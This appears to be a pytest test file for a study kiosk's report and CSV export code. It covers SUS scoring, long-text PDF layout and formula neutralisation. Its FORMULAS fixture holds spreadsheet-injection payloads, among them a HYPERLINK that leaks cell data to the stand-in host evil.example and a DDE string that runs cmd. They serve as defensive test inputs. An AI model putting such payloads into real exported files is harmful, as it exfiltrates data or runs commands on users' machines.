"""Reports that stay right across plan versions, survive long text, and exports a spreadsheet cannot run."""

from __future__ import annotations

import csv
import shutil
import subprocess
from pathlib import Path

import pytest
from sessions_helper import run_session

from kiosk.metrics import sus_score
from kiosk.reports.dataset import collect_study
from kiosk.resources import demo_plan_path
from kiosk.study import load_plan_text

#: SUS answers that score 47.5 with the all-positive wording and 72.5 with the standard one
SUS_ANSWERS = (4, 2, 4, 2, 4, 2, 4, 2, 3, 2)


def _demo_variant(version: str, sus_version: str, extra: str = ""):
    text = demo_plan_path().read_text(encoding="utf-8")
    text = text.replace('version = "1.0"', f'version = "{version}"', 1)
    text = text.replace('sus_version = "standard"', f'sus_version = "{sus_version}"', 1)
    if extra:
        text = text.replace("[study]\n", f"[study]\n{extra}\n", 1)
    return load_plan_text(text, f"plan-{version}.toml")


def test_each_session_is_scored_with_its_own_plan_sus_rule(store, clock) -> None:
    assert sus_score(SUS_ANSWERS, "all_positive") == 47.5 and sus_score(SUS_ANSWERS) == 72.5
    old = _demo_variant("1.0", "all_positive")
    new = _demo_variant("1.1", "standard")
    run_session(store, old, "P-0001", clock, sus=SUS_ANSWERS)
    clock.advance(3600)
    run_session(store, new, "P-0002", clock, sus=SUS_ANSWERS)
    results = collect_study(store, old.id)
    assert results.study.version == "1.1"  # the latest plan still frames the report
    assert sorted(results.sus_scores) == [47.5, 72.5]
    assert results.sus.value == pytest.approx(60.0)
    group_sus = [g.sus.value for g in results.groups if g.participants]
    assert group_sus and all(v == pytest.approx(60.0) for v in group_sus)  # both chose the first choices


def test_the_report_names_the_all_positive_wording_when_an_earlier_version_used_it(store, clock, tmp_path) -> None:
    from kiosk.reports.study_report import write_study_report

    run_session(store, _demo_variant("1.0", "all_positive"), "P-0001", clock, sus=SUS_ANSWERS)
    clock.advance(3600)
    run_session(store, _demo_variant("1.1", "standard"), "P-0002", clock, sus=SUS_ANSWERS)
    pdf = write_study_report(collect_study(store, "demo-farm-subsidy"), tmp_path / "study.pdf", "en")
    assert "all-positive SUS wording" in " ".join(_pdf_text(pdf).split())


def _read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1")


def test_excel_export_neutralises_formulas_but_keeps_numbers(store, demo_study, clock, tmp_path: Path) -> None:
    engine = run_session(store, demo_study, "P-0001", clock, assistance=FORMULAS[0], end=False)
    for text in FORMULAS[1:]:
        engine.add_note(text)
    engine.add_note("-3")  # a number typed as a note is not a formula
    engine.finish()
    out = tmp_path / "excel"
    from kiosk.reports.tabular import export_study_csv

    export_study_csv(store, demo_study.id, out, excel=True)
    plain = tmp_path / "plain"
    export_study_csv(store, demo_study.id, plain)
    as_typed = [row["text"] for row in _read_csv(plain / "notes.csv")]
    assert as_typed[0] == FORMULAS[1]  # R and SPSS get the text as typed
    notes = [row["text"] for row in _read_csv(out / "notes.csv")]
    assert notes == ["'" + text for text in as_typed[:-1]] + ["-3"]
    tasks = _read_csv(out / "task_results.csv")
    assert tasks[0]["assistance"] == "'" + FORMULAS[0]
    assert all(row["active_seconds"] == "60.0" and row["position"].isdigit() for row in tasks)
    for name in ("participants.csv", "answers.csv", "events.csv", "consent.csv", "data_dictionary.csv"):
        for row in _read_csv(out / name):
            for value in row.values():
                assert not value or value[0] not in "=+@\t\r" and not (value[0] == "-" and not _is_number(value)), \
                    (name, value)
    dictionary = (out / "data_dictionary.csv").read_text(encoding="utf-8-sig")
    assert "apostrophe" in dictionary


@pytest.mark.parametrize("text", [*FORMULAS, " =1+1", "\n@x", "-", "+"])
def test_every_formula_start_is_neutralised(text: str) -> None:
    from kiosk.reports.tabular import excel_safe

    assert excel_safe(text) == "'" + text


@pytest.mark.parametrize("value", [-3, -2.5, 0, "-3", "-2.75", "+4", "1e3", "", "Петар", "a=b", "P-0001"])
def test_numbers_and_plain_text_stay_as_they_are(value) -> None:
    from kiosk.reports.tabular import excel_safe

    assert excel_safe(value) == value


def _is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


def _words(prefix: str, length: int) -> str:
    """Numbered words, so pdftotext can show that the first and the last both reached the page."""
    words, total, i = [], 0, 0
    while total < length:
        word = f"{prefix}{i:04d}"
        words.append(word)
        total += len(word) + 1
        i += 1
    return " ".join(words)[:length].rstrip()


def _pdf_text(path: Path) -> str:
    return subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True).stdout


def _qpdf_check(path: Path) -> None:
    check = subprocess.run(["qpdf", "--check", str(path)], capture_output=True, text=True)
    assert check.returncode == 0, check.stdout + check.stderr


@pytest.mark.slow
def test_long_assistance_and_note_wrap_in_both_reports(store, demo_study, clock, tmp_path: Path) -> None:
    """3,000 characters of assistance and a 5,000-character note once raised LayoutError and broke the report."""
    from kiosk.reports.session_report import write_session_report
    from kiosk.reports.study_report import write_study_report

    assert shutil.which("qpdf") and shutil.which("pdftotext"), "install qpdf and poppler-utils (scripts/setup test)"
    assistance = _words("asst", 3000)
    note = _words("note", 5000)
    engine = run_session(store, demo_study, "P-0001", clock, assistance=assistance, end=False)
    engine.add_note(note, ["quote"])
    engine.add_note("x" * 3000)  # one unbroken 'word' as long as a page
    engine.finish()
    study_pdf = write_study_report(collect_study(store, demo_study.id), tmp_path / "study.pdf", "en")
    session_pdf = write_session_report(store, engine.record.id, tmp_path / "session.pdf", "en")
    for pdf in (study_pdf, session_pdf):
        _qpdf_check(pdf)
        text = _pdf_text(pdf)
        words = set(text.split())
        for long_text in (note,):
            first, last = long_text.split()[0], long_text.split()[-1]
            assert first in words and last in words, (pdf.name, last)
        assert "x" * 40 in text
    session_words = set(_pdf_text(session_pdf).split())
    assert {assistance.split()[0], assistance.split()[-1]} <= session_words


@pytest.mark.slow
def test_text_stored_before_validation_still_prints_cleanly(store, demo_study, clock, tmp_path: Path) -> None:
    """Databases from before the normaliser may hold controls and bidi overrides in notes: reports clean them."""
    from kiosk.reports.session_report import write_session_report
    from kiosk.session.events import EventKind

    engine = run_session(store, demo_study, "P-0001", clock)
    engine._commit(EventKind.NOTE_ADDED, {"text": "legacy\x00 \u202eslov\x07 note\x1b", "tags": [], "step": "ended"})
    pdf = write_session_report(store, engine.record.id, tmp_path / "session.pdf", "en")
    _qpdf_check(pdf)
    text = _pdf_text(pdf)
    assert "legacy slov note" in text and "\u202e" not in text and "\x07" not in text
